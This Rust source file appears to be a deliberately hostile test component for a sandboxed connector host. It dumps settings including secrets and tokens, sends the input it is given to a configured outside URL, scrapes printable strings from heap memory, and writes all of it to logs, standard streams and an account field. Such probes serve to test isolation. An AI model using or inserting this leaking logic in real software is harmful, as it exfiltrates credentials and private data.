//! Looks at all there is to see and writes it down wherever a connector can: journal, standard streams, accounts. It
//! asks `url` for one thing after the other (the setting `elsewhere` lists the paths), with what it was given in its
//! hands, and keeps what comes back, refusals included.

use crate::gatehouse::connector::journal::{self, Level};
use crate::types::{Attribute, Value};
use crate::{http, misdeeds, setting};

/// As much as a journal line takes.
const LINE: usize = 3_900;
/// Shorter texts in memory tell nobody anything.
const WORD: usize = 6;
/// Lines of memory that are written down: the rest of the journal is for what else there is.
const LINES_OF_MEMORY: usize = 24;

/// Dumps everything, and answers it.
#[allow(clippy::print_stdout, clippy::print_stderr)] // these, too, lead somewhere
pub fn all(phase: &str, given: &str) -> String {
    let mut seen = format!("{phase} was given {given}");
    for name in ["behaviour", "url", "elsewhere", "method", "header", "body", "times", "secret", "token", "main"] {
        seen.push_str(&format!("\nsetting {name}: {:?}", crate::gatehouse::connector::settings::get(name)));
    }
    for (name, what) in misdeeds::ambient() {
        seen.push_str(&format!("\n{name}: {what}"));
    }
    let wall = wasip2::clocks::wall_clock::now().seconds;
    seen.push_str(&format!("\nclocks: {wall} {}", wasip2::clocks::monotonic_clock::now()));
    for path in setting("elsewhere").split(',').filter(|path| !path.is_empty()) {
        let answer = http::ask(&format!("{}{path}", setting("url")), given);
        seen.push_str(&format!("\n{path}: {answer:?}"));
    }
    for line in pieces(&seen) {
        journal::log(Level::Info, line, &[("phase".to_owned(), phase.to_owned())]);
    }
    print!("{seen}");
    eprint!("{seen}");
    for line in pieces(&memory()).into_iter().take(LINES_OF_MEMORY) {
        journal::log(Level::Error, line, &[]);
    }
    seen
}

/// An account that carries what was seen.
pub fn account(id: &str, seen: &str) -> crate::Account {
    let value = Value { text: seen.to_owned(), kind: None, primary: false };
    let attributes = vec![Attribute { name: "email".to_owned(), values: vec![value] }];
    crate::Account { attributes, ..crate::account(id) }
}

/// The texts in the part of memory that the component did not bring with it.
fn memory() -> String {
    unsafe extern "C" {
        static __heap_base: u8;
    }
    let base = (&raw const __heap_base) as usize;
    let end = core::arch::wasm32::memory_size::<0>() * 65_536;
    let heap = unsafe { core::slice::from_raw_parts(base as *const u8, end - base) };
    let words = heap.split(|byte| !(b' '..=b'~').contains(byte)).filter(|word| word.len() >= WORD);
    let mut found: Vec<&[u8]> = words.collect();
    found.sort_unstable();
    found.dedup();
    found.iter().map(|word| String::from_utf8_lossy(word) + "\n").collect()
}

fn pieces(text: &str) -> Vec<&str> {
    let mut rest = text;
    let mut pieces = Vec::new();
    while !rest.is_empty() {
        let (piece, after) = rest.split_at(rest.floor_char_boundary(LINE));
        pieces.push(piece);
        rest = after;
    }
    pieces
}
